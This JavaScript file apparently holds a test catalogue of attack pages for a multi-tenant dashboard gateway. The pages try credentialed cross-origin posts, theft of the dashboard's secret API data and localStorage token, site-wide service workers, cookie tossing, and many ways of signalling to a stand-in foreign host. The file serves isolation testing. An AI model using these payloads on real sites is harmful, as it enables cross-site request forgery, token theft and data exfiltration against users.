// What the page of a tenant's server may try. Each attack is one page; the words in capitals are put in by the server:
// SITE, DASH (the dashboard's origin), OWN (the attack's address), OTHER (another namespace's), HIT (what the dashboard must not
// get), FOREIGN (what a foreign host must not get). In a script, leak(text) tells the tenant, refused(error) that it did not work.
const post = (from = '') => `${from}fetch('HIT', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' })`;
const script = (code) => `<script>${code}</script>`;
const read = (url) => script(`fetch('${url}', { credentials: 'include' }).then((r) => (r.ok ? r.text().then(leak) : refused(r.status))).catch(refused)`);
const click = '<a id="go" href="#" onclick="act(); return false">go</a>';
const onClick = (code) => `${click}${script(`function act() { ${code} }`)}`;
const later = (code) => `const timer = setInterval(() => { try { ${code} } catch (e) { clearInterval(timer); refused(e) } }, 50)`;

// what a document of one of these kinds does by itself
const POSTING = script(`${post()}.catch(() => {})`);
const posting = (headers, body = `<!doctype html>${POSTING}`, status = 200) => ({ page: { status, headers, body } });
const redirect = (location, status = 307) => ({ 'go': { status, headers: { location }, body: '' } });
const throughRedirect = (location) => ({
  body: script(`fetch('OWNgo', { method: 'POST', credentials: 'include', body: 'x' }).then((r) => r.ok || refused(r.status), refused)`),
  files: redirect(location),
});
const js = (body) => ({ headers: { 'content-type': 'text/javascript' }, body });
const XHTML = `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${post()}</script></body></html>`;

const dashboard = [
  ['post', 'posts to it with fetch', { body: script(`${post()}.catch(refused)`) }],
  ['handler', 'the same from an inline event handler', { body: `<img src="data:," onerror="${post()}">` }],
  ['read', 'reads it with fetch', { body: read('DASH/api/secret') }],
  ['beacon', 'sends a beacon', { body: script(`navigator.sendBeacon('HIT', 'x')`) }],
  ['form', 'submits a form', { body: `<form method="post" action="HIT"></form>${script('document.forms[0].submit()')}` }],
  [
    'form-in-frame',
    'submits a form into a frame',
    { body: `<iframe name="f"></iframe><form target="f" method="post" action="HIT"></form>${script('document.forms[0].submit()')}` },
  ],
  ['web-socket', 'opens a WebSocket', { body: script(`try { new WebSocket('HIT'.replace('https', 'wss')) } catch (e) { refused(e) }`) }],
  ['event-source', 'opens an EventSource', { body: script(`new EventSource('HIT', { withCredentials: true })`) }],
  ['redirect', 'posts by way of a redirect to a path', throughRedirect('/api/attack/redirect')],
  ['redirect-full', 'posts by way of a redirect to an address', throughRedirect('DASH/api/attack/redirect-full')],
  ['redirect-relative', 'posts by way of a relative redirect', throughRedirect('../../../api/attack/redirect-relative')],
  ['redirect-scheme', 'posts by way of a redirect to `https:/path`', throughRedirect('https:/api/attack/redirect-scheme')],
  ['redirect-backslash', 'posts by way of a redirect with a backslash', throughRedirect('\\api/attack/redirect-backslash')],
  ['worker', 'posts from a worker', { body: script(`new Worker('OWNw.js').onerror = refused`), files: { 'w.js': js(post()) } }],
  [
    'shared-worker',
    'posts from a shared worker',
    { body: script(`new SharedWorker('OWNw.js').onerror = refused`), files: { 'w.js': js(post()) } },
  ],
  ['blob-worker', 'posts from a worker made in the page', { body: script(`new Worker(URL.createObjectURL(new Blob([\`${post()}\`])))`) }],
  ['srcdoc', 'posts from a frame made in the page', { body: script(`const f = document.createElement('iframe'); f.srcdoc = \`<body onload="${post()}">\`; document.documentElement.append(f)`) }],
  [
    'text-frame',
    'posts from a frame with a text of its own',
    {
      body: `<iframe src="OWNtext"></iframe>${script(`onload = () => { try { ${post('frames[0].')}.catch(refused) } catch (e) { refused(e) } }`)}`,
      files: { text: { headers: { 'content-type': 'text/plain' }, body: 'a text' } },
    },
  ],
  [
    'gateway-frame',
    "posts from a frame with one of the gateway's own pages",
    { body: `<iframe src="OWN%2F"></iframe>${script(`onload = () => { try { ${post('frames[0].')}.catch(refused) } catch (e) { refused(e) } }`)}` },
  ],
  ['popup', 'posts from an empty window, after a click', { body: onClick(`${post("open('about:blank').")}.catch(refused)`) }],
  ['svg', 'posts from an SVG', posting({ 'content-type': 'image/svg+xml' }, `<svg xmlns="http://www.w3.org/2000/svg"><script>${post()}</script></svg>`)],
  ['xhtml', 'posts from XHTML', posting({ 'content-type': 'application/xhtml+xml' }, XHTML)],
  ['xml', 'posts from XML', posting({ 'content-type': 'text/xml' }, XHTML)],
  [
    'xslt',
    'posts from XML with a style sheet (XSLT)',
    {
      page: { headers: { 'content-type': 'application/xml' }, body: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="OWNs.xsl"?><a/>' },
      files: {
        's.xsl': {
          headers: { 'content-type': 'text/xsl' },
          body: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><html><body><script>${post()}</script></body></html></xsl:template></xsl:stylesheet>`,
        },
      },
    },
  ],
  ['no-type', 'posts from a page without a type', posting({})],
  ['empty-type', 'posts from a page with an empty type', posting({ 'content-type': '' })],
  ['odd-type', 'posts from a page of type `TEXT/Html;x`', posting({ 'content-type': 'TEXT/Html;x' })],
  ['two-types', 'posts from a page with two types', posting({ 'content-type': ['text/plain', 'text/html'] })],
  ['list-type', 'posts from a page of type `text/plain, text/html`', posting({ 'content-type': 'text/plain, text/html' })],
  ['error', 'posts from a page with status 500', posting({ 'content-type': 'text/html' }, `<!doctype html>${POSTING}`, 500)],
  ['own-policy', 'posts from a page with a policy of its own', posting({ 'content-type': 'text/html', 'content-security-policy': "default-src * data: blob: 'unsafe-inline'" })],
  ['hop-by-hop', 'names the policy in `Connection`', posting({ 'content-type': 'text/html', connection: 'close, content-security-policy' })],
  ['below-api', 'posts from a page below `api/v1/`', { at: 'api/v1/below-api/', page: { headers: { 'content-type': 'text/html' }, body: `<!doctype html>${POSTING}` } }],
  ['parent-post', "in the dashboard's frame, posts with `parent.fetch`", { in: 'frame', body: script(`try { ${post('parent.')}.catch(refused) } catch (e) { refused(e) }`) }],
  ['parent-read', "in the dashboard's frame, reads `parent.document`", { in: 'frame', body: script('try { leak(parent.document.body.innerText) } catch (e) { refused(e) }') }],
  ['opener', 'opened by a link of the dashboard with `rel=opener`, posts with `opener.fetch`', { in: 'link', body: script(`try { ${post('opener.')}.catch(refused) } catch (e) { refused(e) }`) }],
  [
    'window',
    'opens it in a window after a click, and posts from there',
    { body: onClick(`const w = open('DASH/dashboard'); ${later(`if (w.localStorage.token) { clearInterval(timer); ${post('w.')}.catch(refused) }`)}`) },
  ],
];

const namespace = [
  ['read-other', 'reads a page with fetch', { body: read('OTHER') }],
  ['read-api', 'reads its REST API on the main host', { body: read('DASH/sparkhistory/other/api/v1/applications') }],
  [
    'frame-other',
    'frames a page and reads it',
    { body: `<iframe src="OTHER"></iframe>${script('onload = () => { try { leak(frames[0].document.body.innerText) } catch (e) { refused(e) } }')}` },
  ],
  ['redirect-other', 'reads a page by way of a relative redirect', { body: read('OWNgo'), files: redirect('../../other/') }],
  ['window-other', 'opens a page in a window after a click, and reads it', { body: onClick(`const w = open('OTHER'); ${later(`const text = w.document.body?.innerText; if (text) { clearInterval(timer); leak(text) }`)}`) }],
];

const everybody = [
  ['whole-worker', 'registers a service worker for the whole site', { body: script(`navigator.serviceWorker.register('OWNw.js', { scope: '/' }).then(() => leak('done'), refused)`), files: { 'w.js': { headers: { 'content-type': 'text/javascript', 'service-worker-allowed': '/' }, body: '' } } }],
  [
    'service-worker',
    'has a service worker answer with a page, which posts',
    {
      body: script(`navigator.serviceWorker.register('OWNw.js').then(() => navigator.serviceWorker.ready).then(() => { location = 'OWNmade' }, refused)`),
      files: {
        'w.js': js(`onfetch = (e) => { if (e.request.mode === 'navigate') e.respondWith(new Response(\`<!doctype html>${POSTING.replace('</', '<\\/')}\`, { headers: { 'content-type': 'text/html' } })) }`),
      },
    },
  ],
  ['storage', "reads the dashboard's localStorage", { first: 'dashboard', body: script(`localStorage.token ? leak(localStorage.token) : refused('nothing there')`) }],
  ['cookie', 'sets a cookie for the dashboard', { cookie: true, body: script(`document.cookie = 'evil=1; path=/'; leak('tried')`) }],
  ['cookie-field', 'sets a cookie for the dashboard with a field', { cookie: true, page: { headers: { 'content-type': 'text/html', 'set-cookie': 'evil=1; Path=/' }, body: `<!doctype html>${script("leak('tried')")}` } }],
  ['cookie-domain', 'sets a cookie for the whole domain', { cookie: true, body: script(`document.cookie = 'evil=1; path=/; domain=SITE'; leak('tried')`) }],
  ['address', "shows itself under the dashboard's address", { body: script(`try { history.pushState(0, '', 'DASH/dashboard'); leak('done') } catch (e) { refused(e) }`) }],
];

const signals = [
  ['image', 'an image', { body: '<img src="FOREIGN">' }],
  ['base', 'an image below a foreign `base`', { body: '<base href="https://listener.test/SITE/"><img src="base">' }],
  ['script', 'a script', { body: '<script src="FOREIGN"></script>' }],
  ['import', '`import()`', { body: script(`import('FOREIGN').catch(() => {})`) }],
  ['modulepreload', '`modulepreload`', { body: '<link rel="modulepreload" href="FOREIGN">' }],
  ['style', 'a style sheet', { body: '<link rel="stylesheet" href="FOREIGN">' }],
  ['background', 'a background', { body: '<style>body { background: url(FOREIGN) }</style>x' }],
  ['font', 'a font', { body: '<style>@font-face { font-family: f; src: url(FOREIGN) } body { font-family: f }</style>x' }],
  ['video', 'a video', { body: '<video src="FOREIGN" preload="auto"></video>' }],
  ['frame', 'a frame', { body: '<iframe src="FOREIGN"></iframe>' }],
  ['object', 'a plug-in (`object`)', { body: '<object data="FOREIGN"></object>' }],
  ['embed', 'a plug-in (`embed`)', { body: '<embed src="FOREIGN">' }],
  ['fetch', 'fetch', { body: script(`fetch('FOREIGN', { mode: 'no-cors' }).catch(refused)`) }],
  ['foreign-beacon', 'a beacon', { body: script(`navigator.sendBeacon('FOREIGN', 'x')`) }],
  ['foreign-socket', 'a WebSocket', { body: script(`try { new WebSocket('FOREIGN'.replace('https', 'wss')) } catch (e) { refused(e) }`) }],
  ['preload', '`preload`', { body: '<link rel="preload" as="image" href="FOREIGN">' }],
  ['prefetch', '`prefetch`', { body: '<link rel="prefetch" href="FOREIGN">' }],
  ['preload-field', '`preload` in a field', { page: { headers: { 'content-type': 'text/html', link: '<FOREIGN>; rel=preload; as=image' }, body: '<!doctype html>' } }],
  ['ping', 'the `ping` of a link, after a click', { body: '<a id="go" href="#x" ping="FOREIGN">go</a>' }],
  ['foreign-form', 'a form', { body: `<form action="FOREIGN"></form>${script('document.forms[0].submit()')}` }],
  ['redirected-image', 'an image by way of a redirect', { body: '<img src="OWNgo">', files: redirect('FOREIGN', 302) }],
];

const remaining = [
  ['navigation', '`location = …`', { body: script(`location = 'FOREIGN'`) }],
  ['link', 'a link, after a click', { body: '<a id="go" href="FOREIGN">go</a>' }],
  ['refresh', '`meta refresh`', { body: '<meta http-equiv="refresh" content="0; url=FOREIGN">' }],
  ['refresh-field', '`Refresh` in a field', { page: { headers: { 'content-type': 'text/html', refresh: '0; url=FOREIGN' }, body: '<!doctype html>' } }],
  ['location-field', 'a redirect', { page: { status: 302, headers: { location: 'FOREIGN' }, body: '' } }],
  ['window-foreign', 'a window, after a click', { body: onClick(`open('FOREIGN')`) }],
];

const rows = (group, list) => list.map(([id, title, attack]) => ({ id, group, title, ...attack, click: Boolean(attack.body?.includes('id="go"')) }));

export const TENANT_ATTACKS = [
  ...rows("A tenant's page, on the dashboard", dashboard),
  ...rows("A tenant's page, on another namespace", namespace),
  ...rows("A tenant's page, on what the site shares", everybody),
  ...rows("A tenant's page, a signal to a foreign host by", signals),
  ...rows("A tenant's page, leaving for a foreign host by", remaining),
];
